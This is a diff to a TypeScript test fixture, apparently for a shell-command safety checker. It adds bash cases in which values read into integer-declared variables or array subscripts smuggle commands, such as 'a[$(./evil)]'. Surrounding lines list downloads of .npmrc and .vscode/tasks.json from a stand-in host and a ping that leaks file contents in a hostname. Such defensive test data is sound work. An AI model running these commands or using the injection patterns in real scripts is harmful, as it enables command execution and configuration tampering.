@@ -104,6 +104,11 @@ const calls: Record<string, string[]> = {
     'curl -O --remote-header-name https://a.example/x', 'wget --content-disposition https://a.example/x', 'wget https://a.example/.npmrc', 'wget https://a.example/%2enpmrc?x=/a', 'wget -P .vscode https://a.example/tasks.json', 'curl -sO https://a.example/.npmrc',
     'curl --remote-name --output-dir .vscode https://a.example/tasks.json'],
   'whoever is asked about is contacted': ['ping -c 3 b.example', 'ping $(cat a).b.example'],
+  'bash calculates with what a variable is given that is declared as a number': [
+    'declare -i n; read n < n.txt', 'typeset -i n; n=$(cat n.txt)', "declare -i n; printf -v n '%s' 'a[$(./evil)]'", "declare -i n; n+='a[$(./evil)]'",
+    'read x < n.txt; declare -i n; n=x', 'declare -i REPLY; read < n.txt', 'f() { local -i n; read n < n.txt; }; f', 'declare -i n; for i in 1 2; do n=$x; read x < n.txt; done',
+    'read x < n.txt; a=([x]=1)', 'read x < n.txt; a=([0]=1 [$x]=2)'
+  ],
   'what arithmetic finds in a variable, or in a subscript, may hold commands': ['n=$(cat n.txt); echo ${a[n]}', 'n=$(cat n.txt); echo ${a[$n]}', 'n=$(cat n.txt); a[n]=1', 'n=$(cat n.txt); m=n; echo $((m))', 'm=n; echo $((m)); for i in 1 2; do echo $((m)); n=$(cat n.txt); done',
     'n=$(cat n.txt); declare -i m=n', ": 'a[$(./evil)]'; echo $(($_))", "bash -c 'echo $(($1))' x 'a[$(./evil)]'", "f() { echo $(($1+1)); }; f 'a[$(./evil)]'", 'x=fo; foo=$(cat n.txt); echo $((${x}o))', 'false && declare -A a; n=$(cat n.txt); echo ${a[$n]}'],
   'a list of words is run through': ["compgen -W '$(./evil)'", "compgen -A file -W '$(./evil)'"]
